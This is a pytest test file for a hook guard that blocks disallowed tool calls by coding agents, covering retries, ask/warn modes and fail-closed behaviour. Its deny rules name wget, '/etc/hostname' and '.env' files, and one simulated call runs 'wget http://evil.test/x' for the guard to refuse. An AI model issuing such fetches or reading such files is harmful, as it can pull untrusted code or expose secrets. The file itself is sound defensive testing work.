"""The guard at the hook edge, as real ``python -m trajgrade hook`` processes
and a real ``trajgrade serve``: retries refused again, ask/warn per agent,
and fail-closed that is closed (each failure case, both modes)."""

from __future__ import annotations

import copy
import http.client
import json
import os
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from tests.hooks._replay import hook_cmd, payloads, run_hook
from tests.hooks._serve import serving

if TYPE_CHECKING:
    from collections.abc import Iterator

pytestmark = pytest.mark.slow

#: Forbids reading the hostname and wget, in every agent's spelling.
GUARD = """\
graders:
  - type: tool-calls
    name: no-net
    config:
      disallowed:
        - {name: "^(Bash|run_shell_command)$", command: "/etc/hostname|wget"}
        - {name: "^exec_command$", args: {cmd: "/etc/hostname|wget"}}
"""
#: A rule that cannot be evaluated on Claude Code's Read: it has no command.
COMMAND_ON_READ = """\
graders:
  - type: tool-calls
    name: no-env
    config:
      disallowed: [{name: "^(Bash|Read)$", command: "\\\\.env"}]
"""
GATE = {"claude-code": "PreToolUse", "codex": "PreToolUse", "gemini": "BeforeTool"}


def _retry_session(agent: str) -> list[dict[str, Any]]:
    """The recorded session up to the hostname call, then that call retried
    with a new id, then ``wget`` instead, then the rest of the session."""
    recorded = payloads(agent)
    first = recorded[4]
    assert first["hook_event_name"] == GATE[agent]
    retry = copy.deepcopy(first)
    wget = copy.deepcopy(first)
    if "tool_use_id" in first:
        retry["tool_use_id"] = first["tool_use_id"] + "-retry"
        wget["tool_use_id"] = first["tool_use_id"] + "-wget"
    wget["tool_input"]["command"] = "wget http://evil.test/x"
    return [*recorded[:5], retry, wget, *recorded[6:]]


def _denied(agent: str, body: dict[str, Any] | None) -> str | None:
    """The deny reason of an answer, in ``agent``'s spelling (None: allowed)."""
    if not body:
        return None
    if agent == "gemini":
        return body.get("reason") if body.get("decision") == "deny" else None
    out = body.get("hookSpecificOutput") or {}
    if out.get("permissionDecision") == "deny":
        return str(out["permissionDecisionReason"])
    return None


def _body(stdout: str) -> dict[str, Any] | None:
    return json.loads(stdout) if stdout.strip() else None


@pytest.mark.parametrize("agent", ["claude-code", "codex", "gemini"])
def test_a_refused_call_retried_is_refused_again_cold(
    agent: str, tmp_path: Path
) -> None:
    """Cold hook processes: the hostname call, its retry (new id) and wget
    are each denied, naming the rule; the other calls run."""
    policy = tmp_path / "p.yaml"
    policy.write_text(GUARD)
    decisions = tmp_path / "d.jsonl"
    answers = []
    for p in _retry_session(agent):
        proc = run_hook(
            agent,
            p,
            "-c",
            policy,
            "--state-dir",
            tmp_path / "s",
            "--decisions",
            decisions,
        )
        assert proc.returncode == 0, proc.stderr
        answers.append((p["hook_event_name"], _body(proc.stdout)))
    gates = [_denied(agent, a) for e, a in answers if e == GATE[agent]]
    assert [g is not None for g in gates] == [False, True, True, True, False, False]
    for reason in gates[1:4]:
        assert reason is not None
        assert reason.startswith("trajgrade denied this call: disallowed[")
        # The command refused, not the rule's regex.
        assert "'cat /etc/hostname'" in reason or "'wget http://evil.test/x'" in reason
        assert reason.endswith("(grader 'no-net')")
    records = [json.loads(line) for line in decisions.read_text().splitlines()]
    assert [r["type"] for r in records] == ["decision"] * 3
    assert len({r["call_id"] for r in records}) == 3
    assert {r["action"] for r in records} == {"deny"}


@pytest.fixture(name="serve")
def serve_fixture(tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[str]:
    """A ``trajgrade serve`` of GUARD, or of (policy, flags) given indirectly."""
    policy = tmp_path / "p.yaml"
    text, flags = getattr(request, "param", (GUARD, ()))
    policy.write_text(text)
    with serving(policy, tmp_path / "state", *flags) as (url, _):
        yield url


def _post(
    url: str, agent: str, payload: dict[str, Any] | bytes
) -> dict[str, Any] | None:
    host, port = url.removeprefix("http://").split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=10)
    body = payload if isinstance(payload, bytes) else json.dumps(payload)
    try:
        conn.request("POST", f"/hook/{agent}", body=body)
        resp = conn.getresponse()
        assert resp.status == 200
        return _body(resp.read().decode())
    finally:
        conn.close()


def test_a_refused_call_retried_is_refused_again_by_serve(serve: str) -> None:
    """The same retry scenario through one daemon, for all three agents."""
    for agent in ("claude-code", "codex", "gemini"):
        gates = [
            _denied(agent, _post(serve, agent, p))
            for p in _retry_session(agent)
            if p["hook_event_name"] == GATE[agent]
        ]
        assert [g is not None for g in gates] == [False, True, True, True, False, False]


def _read_env(agent: str = "claude-code") -> dict[str, Any]:
    p = copy.deepcopy(payloads(agent)[2])
    p["tool_name"] = "Read"
    p["tool_input"] = {"file_path": "/repo/.env"}
    p["tool_use_id"] = "toolu_read_env"
    return p


@pytest.mark.parametrize(
    ("mark", "agent", "expect"),
    [
        ("ask", "claude-code", {"permissionDecision": "ask"}),
        ("ask", "codex", {"permissionDecision": "deny"}),
        ("ask", "gemini", {"decision": "deny"}),
        ("warn", "claude-code", {"systemMessage": True}),
        ("warn", "codex", {}),
        ("warn", "gemini", {"systemMessage": True}),
    ],
)
def test_ask_and_warn_per_agent(
    mark: str, agent: str, expect: dict[str, Any], tmp_path: Path
) -> None:
    """ask: Claude Code asks, Codex and Gemini (where ask fails open or
    hangs a headless run) deny;
    warn: the call runs, with a message where the agent shows one."""
    policy = tmp_path / "p.yaml"
    policy.write_text(GUARD.replace("    name: no-net\n", f"    on_fail: {mark}\n"))
    proc = run_hook(agent, payloads(agent)[4], "-c", policy, "--state-dir", tmp_path)
    assert proc.returncode == 0, proc.stderr
    body = _body(proc.stdout) or {}
    flat = {**body, **(body.get("hookSpecificOutput") or {})}
    for key, value in expect.items():
        if value is True:
            assert "/etc/hostname" in flat[key]
        else:
            assert flat[key] == value
    if not expect:
        assert body == {}
    if mark == "warn":
        assert _denied(agent, body) is None
        assert "guard_warning" in (tmp_path / "hooks.log").read_text()
        assert proc.stderr == ""  # shadow mode is not a hook problem
    elif agent != "claude-code":
        assert "cannot ask the user" in str(_denied(agent, body))


# ---------------------------------------------------------------- fail-closed
def _raw(
    stdin: bytes, *args: str | os.PathLike[str], agent: str = "claude-code"
) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        hook_cmd(agent, *args),
        input=stdin,
        capture_output=True,
        timeout=60,
        check=False,
    )


def _case(name: str, tmp_path: Path) -> tuple[bytes, list[str | os.PathLike[str]], str]:
    """(stdin, arguments, what the reason must mention) of one failure."""
    good = tmp_path / "good.yaml"
    good.write_text(GUARD)
    pre = json.dumps(payloads("claude-code")[2]).encode()
    state = tmp_path / "s"
    base: list[str | os.PathLike[str]] = ["-c", good, "--state-dir", state]
    if name == "empty":
        return b"", base, "empty"
    if name == "truncated":
        return pre[: len(pre) // 2], base, "unreadable payload"
    if name == "not-json":
        return b"<html>oops</html>", base, "unreadable payload"
    if name == "no-event-name":  # was reported as an "internal error"
        unnamed = {k: v for k, v in json.loads(pre).items() if k != "hook_event_name"}
        reason = "unreadable payload: the hook payload has no string `hook_event_name`"
        return json.dumps(unnamed).encode(), base, reason
    if name == "unknown-option":
        return pre, [*base, "--no-such-option"], "--no-such-option"
    if name == "policy-given-twice":  # the second -c silently replaced the first
        return pre, [*base, "-c", good], "-c given twice"
    if name == "max-age-not-positive":  # -1 ("never"?) removed every session's state
        return pre, [*base, "--max-age", "-1"], "--max-age must be a number"
    if name == "config-error":
        bad = tmp_path / "bad.yaml"
        bad.write_text("graders:\n  - type: no-such-grader\n")
        return pre, ["-c", bad, "--state-dir", state], "no-such-grader"
    if name == "unusable-state-dir":
        blocker = tmp_path / "a-file"
        blocker.write_text("not a directory")
        args = ["-c", good, "--state-dir", blocker / "s"]
        return pre, args, "cannot use the state directory"
    assert name == "error-outcome"
    policy = tmp_path / "env.yaml"
    policy.write_text(COMMAND_ON_READ)
    return (
        json.dumps(_read_env()).encode(),
        ["-c", policy, "--state-dir", state],
        "disallowed[0]",
    )


CASES = (
    "empty",
    "truncated",
    "not-json",
    "no-event-name",
    "unknown-option",
    "policy-given-twice",
    "max-age-not-positive",
    "config-error",
    "unusable-state-dir",
    "error-outcome",
)


@pytest.mark.parametrize("name", CASES)
def test_fail_closed_denies_with_a_reason_the_model_reads(
    name: str, tmp_path: Path
) -> None:
    stdin, args, mention = _case(name, tmp_path)
    proc = _raw(stdin, *args, "--fail-closed")
    assert proc.returncode == 0
    reason = _denied("claude-code", _body(proc.stdout.decode()))
    assert reason is not None, (proc.stdout, proc.stderr)
    assert mention in reason
    assert "fail-closed" in reason


@pytest.mark.parametrize("name", CASES)
def test_fail_open_lets_the_call_run_and_says_why(name: str, tmp_path: Path) -> None:
    stdin, args, mention = _case(name, tmp_path)
    proc = _raw(stdin, *args)
    assert proc.returncode == 0
    body = _body(proc.stdout.decode())
    assert _denied("claude-code", body) is None
    said = proc.stderr.decode() + json.dumps(body or {})
    assert mention in said
    if name == "error-outcome":
        # The user sees which rule could not be evaluated.
        assert body is not None
        assert "disallowed[0]" in body["systemMessage"]


@pytest.mark.parametrize("agent", ["codex", "gemini"])
def test_fail_closed_empty_payload_in_each_agents_spelling(
    agent: str, tmp_path: Path
) -> None:
    policy = tmp_path / "p.yaml"
    policy.write_text(GUARD)
    proc = _raw(b"", "-c", policy, "--fail-closed", agent=agent)
    reason = _denied(agent, _body(proc.stdout.decode()))
    assert reason is not None
    assert "empty" in reason


@pytest.mark.parametrize(
    "serve", [(COMMAND_ON_READ, ("--fail-closed",))], indirect=True
)
def test_serve_fail_closed_denies_what_it_cannot_grade(serve: str) -> None:
    """``serve --fail-closed``: a garbled body and a rule that cannot be
    evaluated on the call are denies (Claude Code would run the call on a 500)."""
    reason = _denied("claude-code", _post(serve, "claude-code", b'{"hook_event_'))
    assert reason is not None
    assert "fail-closed" in reason
    reason = _denied("claude-code", _post(serve, "claude-code", _read_env()))
    assert reason is not None
    assert "disallowed[0] could not be evaluated" in reason


@pytest.mark.parametrize("agent", ["claude-code", "gemini"])
def test_thin_client_fail_closed_denies_a_garbled_payload(
    agent: str, tmp_path: Path
) -> None:
    """The daemon is unreachable and the payload unreadable: still a deny."""
    proc = _raw(
        b"not json", "--server", "http://127.0.0.1:9", "--fail-closed", agent=agent
    )
    assert _denied(agent, _body(proc.stdout.decode())) is not None
